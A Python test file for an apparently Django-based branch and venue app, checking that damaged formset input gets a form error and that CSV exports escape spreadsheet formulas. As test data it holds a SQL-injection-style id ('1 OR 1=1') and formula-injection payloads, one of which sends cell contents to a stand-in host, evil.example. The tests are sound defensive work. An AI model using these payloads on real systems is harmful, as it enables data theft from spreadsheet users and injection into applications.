"""Damaged form input gets a form error, never a server error; exports are safe."""

import csv
import io

import pytest
from django.urls import reverse

from branches.models import Venue
from core.exports import spreadsheet_cell_safe
from tests.factories.branches import AttendanceFactory, MemberFactory, VenueFactory


def test_a_venue_row_id_that_is_not_a_number_is_a_form_error(
    client, admin_user, branch_a
):
    venue = VenueFactory(branch=branch_a, name="Miners' Hall")
    client.force_login(admin_user)
    url = reverse("branches_branch:edit", args=[branch_a.pk])
    data = {
        "name": "Renamed",
        "slug": branch_a.slug,
        "venues-TOTAL_FORMS": "1",
        "venues-INITIAL_FORMS": "1",
        "venues-MIN_NUM_FORMS": "0",
        "venues-MAX_NUM_FORMS": "1000",
        "venues-0-id": "1 OR 1=1",
        "venues-0-name": "Hijacked",
        "venues-0-address": "",
        "venues-0-ORDER": "1",
        "venues-0-DELETE": "",
    }
    response = client.post(url, data)
    assert response.status_code == 200
    assert "A row of this form was damaged" in response.content.decode()
    branch_a.refresh_from_db()
    assert branch_a.name == "Ashford"
    assert list(Venue.objects.values_list("name", flat=True)) == [venue.name]

    # The same form with the row's real id saves.
    response = client.post(
        url, {**data, "venues-0-id": str(venue.pk), "venues-0-name": "Hall"}
    )
    assert response.status_code == 302
    assert list(Venue.objects.values_list("name", flat=True)) == ["Hall"]


@pytest.mark.parametrize(
    "value, safe",
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK("),
        ("+1+1", "'+1"),
        ("-2+3", "'-2"),
        ("@SUM(A1)", "'@SUM"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ada Lovelace", "Ada Lovelace"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value, safe):
    assert spreadsheet_cell_safe(value).startswith(safe)
    assert spreadsheet_cell_safe(7) == 7


def test_the_members_csv_export_neutralises_a_formula_walk_in(
    client, organiser_a, branch_a, session_a
):
    evil = MemberFactory(branch=branch_a, name='=HYPERLINK("http://evil.example","x")')
    AttendanceFactory(session=session_a, member=evil, status="present")
    client.force_login(organiser_a)
    url = reverse("branches_organise:branch_report", args=[branch_a.pk])
    response = client.get(url + "?export=csv&table=members")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    names = [row[0] for row in rows[1:]]
    assert "'" + evil.name in names
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row
    )
